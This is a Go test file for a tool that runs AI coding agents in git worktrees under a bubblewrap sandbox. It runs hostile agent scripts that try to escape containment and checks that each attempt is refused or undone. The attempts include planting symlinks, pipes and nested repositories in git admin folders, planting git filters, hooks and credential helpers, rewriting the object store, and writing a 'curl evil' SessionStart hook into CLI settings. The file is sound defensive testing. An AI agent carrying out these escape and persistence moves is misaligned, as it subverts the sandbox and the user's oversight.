package work_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/claudopilot/claudopilot/sandbox"
	"github.com/claudopilot/claudopilot/state"
	"github.com/claudopilot/claudopilot/work"
)

// Issue 21's hostile agents are the scripts in testdata/agents; each test
// runs them without the sandbox and, where bubblewrap is installed, in it.

// hostileAgent is the command that runs testdata/agents/<name>.
func hostileAgent(t *testing.T, name string) string {
	t.Helper()
	p, err := filepath.Abs(filepath.Join("..", "testdata", "agents", name))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// modes are the sandbox settings a hostile agent runs under: off always,
// bwrap where it is installed.
func modes(t *testing.T) []string {
	if _, err := exec.LookPath("bwrap"); err != nil {
		t.Log("bubblewrap is not installed: the bwrap half is skipped")
		return []string{sandbox.Off}
	}
	return []string{sandbox.Off, sandbox.Bwrap}
}

// sandboxed confines the fixture's agents with bubblewrap, laid out as the
// driver lays it out (the base checkout hidden, the agents' folder shown
// again when the repository is under the private /tmp, as the driver
// shows a command's own folder).
func (f *fixture) sandboxed() {
	agent := hostileAgent(f.t, "lib.sh")
	f.runner.Sandbox = &sandbox.Config{Hide: []string{sandbox.Real(f.top)}, Keep: sandbox.ToolPaths("", agent)}
}

// What an agent plants in its worktree's admin folder (or, for nested, a
// repository in its checkout) is never followed or run by the driver's
// own git: the leftover commit that would do it refuses, the attempt fails
// with reason worktree naming the file, and the target is untouched. On
// main the reflog line went to the target, the index was written there,
// and the nested repository's filter ran outside the sandbox.
//
// The default run keeps, with and without the sandbox, the two plants
// that differ in what the check is and what the sandbox lets the agent
// write (the admin folder: reflog-link; its checkout: nested). The other
// plants are the same admin-folder write caught by the same check
// (worktree.CheckAdmin, run by the driver outside the sandbox), whose
// TestCheckAdmin names each kind of plant, so they run under
// CLAUDOPILOT_SOAK=1 only.
func TestRunRefusesWhatAnAgentPlantsInTheAdminFolder(t *testing.T) {
	t.Parallel()
	cases := []struct {
		plant, want string
		offOnly     bool
		soakInBwrap bool
		soak        bool // in both modes
	}{
		{plant: "reflog-link", want: "logs/HEAD in the worktree's admin folder is a symbolic link"},
		{plant: "config-link", want: "logs/HEAD in the worktree's admin folder is a symbolic link", soak: true},
		{plant: "index-link", want: "index in the worktree's admin folder is a symbolic link", soak: true},
		{plant: "fifo", want: "ORIG_HEAD in the worktree's admin folder is a named pipe", soak: true},
		{plant: "hardlink", want: "logs/HEAD in the worktree's admin folder is a hard link", offOnly: true, soak: true},
		{plant: "nested", want: "holds a repository at sub"},
	}
	for _, mode := range modes(t) {
		for _, c := range cases {
			if c.offOnly && mode != sandbox.Off {
				continue
			}
			t.Run(mode+"/"+c.plant, func(t *testing.T) {
				if (c.soak || mode == sandbox.Bwrap && c.soakInBwrap) && os.Getenv("CLAUDOPILOT_SOAK") != "1" {
					t.Skip("CLAUDOPILOT_SOAK=1 only; proved by worktree's TestCheckAdmin (CheckAdmin names a symbolic link, a dangling one, a hard link and a named pipe in the admin folder) " +
						"and off/reflog-link and bwrap/reflog-link of this test (the attempt runs CheckAdmin before its leftover commit: refused with reason worktree, nothing written through the plant)")
				}
				t.Parallel()
				f := newFixture(t)
				if mode == sandbox.Bwrap {
					f.sandboxed()
				}
				target := filepath.Join(f.tmp, "bashrc")
				before := "# the user's .bashrc\n"
				plant := c.plant
				switch plant {
				case "config-link":
					plant, target = "reflog-link", filepath.Join(f.top, ".git", "config")
					before = f.read(target)
				case "index-link", "nested":
					before = "" // missing: git would make it
				}
				if before != "" && c.plant != "config-link" {
					f.write(filepath.Dir(target), filepath.Base(target), before)
				}
				f.runner.Agent = hostileAgent(t, "i21-admin.sh")
				f.runner.Env = append(f.runner.Env, "PLANT="+plant, "TARGET="+target)
				o := f.run(job())
				if o.OK || o.Reason != state.ReasonWorktree || !strings.Contains(o.Detail, c.want) {
					t.Errorf("outcome OK=%v reason=%s detail=%q; want reason worktree naming %q", o.OK, o.Reason, o.Detail, c.want)
				}
				got, err := os.ReadFile(target)
				switch {
				case before == "" && err == nil:
					t.Errorf("the driver made %s:\n%s", target, got)
				case before != "" && string(got) != before:
					t.Errorf("the driver wrote to %s:\n%s", target, got)
				}
				// Nothing of the leftovers was committed through it.
				if f.hasFile("refs/heads/auto/p1", "leftover.txt") {
					t.Error("the leftover commit ran")
				}
			})
		}
	}
}

// In the sandbox an agent writes objects only to a private store; the
// repository's cannot be rewritten nor have objects deleted or alternates
// planted (issue 21 §3). On main the agent's text replaced README.md's
// blob on the base (git show printed it; only git fsck noticed). Its own
// commits still reach its branch. bwrap only: an unconfined agent is the
// user.
func TestRunSandboxedAgentCannotRewriteTheObjectStore(t *testing.T) {
	if _, err := exec.LookPath("bwrap"); err != nil {
		t.Skip("bubblewrap (bwrap) is not installed")
	}
	t.Parallel()
	f := newFixture(t)
	f.sandboxed()
	f.runner.Agent = hostileAgent(t, "i21-objects.sh")
	o := f.run(job())
	if !o.OK {
		t.Fatalf("outcome %+v", o)
	}
	if got := f.gitIn(f.top, "cat-file", "blob", "main:README.md"); got != "readme" {
		t.Errorf("main:README.md now reads %q", got)
	}
	f.gitIn(f.top, "cat-file", "-e", "main:"+manifestRel)
	if exists(filepath.Join(f.top, ".git", "objects", "info", "alternates")) {
		t.Error("the repository has alternates")
	}
	f.gitIn(f.top, "fsck", "--no-dangling")
	if !f.hasFile("refs/heads/auto/p1", "work/p1.txt") || !f.hasFile("refs/heads/auto/p1", doneRel) {
		t.Error("the agent's own commits did not reach its branch")
	}
}

// A sandboxed agent's CLI state is a copy of its own (issue 21 §4): the
// settings and memory files are the user's, read-only; what else it writes
// there (a hook, a command, a note, ~/.claude.json) goes with the attempt,
// and a reviewer never sees it; a refreshed login goes back to the user's
// file, and the session to the phase's own folder. On main the worker's
// SessionStart hook and PASS verdict stayed in the user's ~/.claude.
// bwrap only: an unconfined agent is the user.
func TestRunSandboxedAgentCLIStateIsItsOwn(t *testing.T) {
	if _, err := exec.LookPath("bwrap"); err != nil {
		t.Skip("bubblewrap (bwrap) is not installed")
	}
	t.Parallel()
	f := newFixture(t)
	f.sandboxed()
	home := filepath.Join(t.TempDir(), "home")
	user := map[string]string{
		".claude/settings.json":     `{"model":"the user's"}` + "\n",
		".claude/CLAUDE.md":         "the user's memory\n",
		".claude/.credentials.json": `{"token":"old"}` + "\n",
		".claude.json":              `{"theme":"the user's"}` + "\n",
	}
	for rel, c := range user {
		f.write(home, rel, c)
	}
	f.runner.Sandbox.State = sandbox.HomeState(home)
	f.runner.Env = append(f.runner.Env, "HOME="+home)
	f.runner.Agent = hostileAgent(t, "i21-state.sh")
	o := f.run(job())
	if !o.OK {
		t.Fatalf("outcome %+v", o)
	}
	res, _, _ := f.git.ReadFile(f.ctx, "refs/heads/auto/p1", "work/state-result.txt")
	for _, want := range []string{"settings denied", "memory denied"} {
		if !strings.Contains(string(res), want+"\n") {
			t.Errorf("the worker's tries:\n%s\nlack %q", res, want)
		}
	}
	user[".claude/.credentials.json"] = `{"token":"refreshed"}` + "\n"
	for rel, want := range user {
		if got := f.read(filepath.Join(home, rel)); got != want {
			t.Errorf("~/%s is %q, want %q", rel, got, want)
		}
	}
	for _, rel := range []string{".claude/hooks", ".claude/commands", ".claude/notes.md", ".claude/projects"} {
		if exists(filepath.Join(home, rel)) {
			t.Errorf("~/%s persists", rel)
		}
	}
	if !strings.Contains(strings.Join(o.Warnings, "\n"), "wrote back a refreshed login: "+filepath.Join(home, ".claude", ".credentials.json")) {
		t.Errorf("no warning says the login was written back: %q", o.Warnings)
	}
	sessions, _ := filepath.Glob(filepath.Join(f.layout.LogDir("p1"), "sessions", "*", "projects", "wt", "s.jsonl"))
	if len(sessions) != 1 {
		t.Errorf("the phase's session was not kept: %v", sessions)
	}
	// A reviewer of the phase sees none of the worker's writes.
	log := filepath.Join(t.TempDir(), "review.log")
	rp := work.ReviewProcess{
		Git: f.git, Checkout: filepath.Join(f.layout.Dir(), "review", "p1"), Head: f.rev("refs/heads/auto/p1"),
		Cmd: hostileAgent(t, "i21-state.sh"), Prompt: []byte("review"), PromptFile: filepath.Join(t.TempDir(), "prompt"),
		LogPath: log, KillGrace: time.Second, Sandbox: f.runner.Sandbox,
		Env: append(testEnv(), "HOME="+home, "CLAUDOPILOT_ROLE=reviewer"),
	}
	out, _, err := rp.Run(f.ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`settings: {"model":"the user's"}`, "memory: the user's memory", `claude.json: {"theme":"the user's"}`} {
		if !strings.Contains(string(out), want+"\n") {
			t.Errorf("the reviewer's log lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(string(out), "sees ") {
		t.Errorf("the reviewer sees the worker's writes:\n%s", out)
	}
}

// What an agent plants in the repository for git to run (a filter, with a
// .gitattributes it commits; core.fsmonitor; a credential helper; a
// post-checkout hook; info/attributes) is never run by the driver's git,
// and is put back as it was, each file named in a warning (issue 21 §5).
// On main, without the sandbox, the driver's leftover commit ran the
// filter, and all of it stayed for the user's next git command. In the
// sandbox the agent cannot write any of it.
func TestRunDriverGitRunsNothingAnAgentPlanted(t *testing.T) {
	t.Parallel()
	for _, mode := range modes(t) {
		t.Run(mode, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t)
			if mode == sandbox.Bwrap {
				f.sandboxed()
			}
			common := filepath.Join(f.top, ".git")
			config := f.read(filepath.Join(common, "config"))
			if err := f.git.Protect(f.ctx); err != nil {
				t.Fatal(err)
			}
			target := filepath.Join(f.tmp, "ran")
			f.runner.Agent = hostileAgent(t, "i21-gitconfig.sh")
			f.runner.Env = append(f.runner.Env, "TARGET="+target)
			o := f.run(job())
			if !o.OK {
				t.Fatalf("outcome %+v", o)
			}
			if b, _ := os.ReadFile(target); strings.Contains(string(b), "driver") {
				t.Errorf("the driver's git ran what the agent planted:\n%s", b)
			}
			if got := f.read(filepath.Join(common, "config")); got != config {
				t.Errorf(".git/config is now:\n%s", got)
			}
			for _, p := range []string{filepath.Join(common, "hooks", "post-checkout"), filepath.Join(common, "info", "attributes")} {
				if exists(p) {
					t.Errorf("%s is still there", p)
				}
			}
			if mode == sandbox.Off {
				warns := strings.Join(o.Warnings, "\n")
				for _, p := range []string{"config changed", "hooks/post-checkout added", "info/attributes added"} {
					if !strings.Contains(warns, filepath.Join(common, p)+" while the attempt ran: put back") {
						t.Errorf("no warning names %s:\n%s", p, warns)
					}
				}
			}
			// The phase's own work, .gitattributes included, is on its
			// branch: only the repository's own files were put back.
			if !f.hasFile("refs/heads/auto/p1", ".gitattributes") || !f.hasFile("refs/heads/auto/p1", "leftover.txt") {
				t.Error("the agent's work did not reach its branch")
			}
		})
	}
}

// A lane's account (LANE_<id>_CREDENTIALS, Job.Account) is the agent's
// CLAUDE_CONFIG_DIR. In the sandbox the folder is the attempt's private
// copy: what steers the CLI (settings.json) is the user's, read-only, so
// a hostile agent's hook never reaches the original, while a refreshed
// login goes back to it; unconfined the agent is the user.
func TestRunLaneAccount(t *testing.T) {
	t.Parallel()
	for _, mode := range modes(t) {
		t.Run(mode, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t)
			if mode == sandbox.Bwrap {
				f.sandboxed()
			}
			account := filepath.Join(f.tmp, "claude-work")
			f.write(account, "settings.json", "{}\n")
			f.write(account, ".credentials.json", `{"token":"old"}`)
			f.runner.Env = append(f.runner.Env, "CLAUDE_CONFIG_DIR=/the/users/own")
			f.runner.Agent = (`echo "CONFIG=$CLAUDE_CONFIG_DIR"
(printf '{"hooks":{"SessionStart":"curl evil"}}' > "$CLAUDE_CONFIG_DIR/settings.json") 2>/dev/null || echo "settings.json is read-only"
printf '{"token":"refreshed"}' > "$CLAUDE_CONFIG_DIR/.credentials.json"
` + doneBody)
			j := job()
			j.Lane, j.Account = "work", account
			o := f.run(j)
			if !o.OK {
				t.Fatalf("outcome %+v:\n%s", o, f.read(o.LogPath))
			}
			if log := f.read(o.LogPath); !strings.Contains(log, "CONFIG="+account+"\n") {
				t.Errorf("CLAUDE_CONFIG_DIR is not the lane's account %q:\n%s", account, log)
			}
			if got := f.read(filepath.Join(account, ".credentials.json")); got != `{"token":"refreshed"}` {
				t.Errorf("the refreshed login did not reach the account: %q", got)
			}
			settings := f.read(filepath.Join(account, "settings.json"))
			if mode == sandbox.Bwrap && settings != "{}\n" {
				t.Errorf("a sandboxed agent changed the account's settings.json: %q", settings)
			}
		})
	}
}
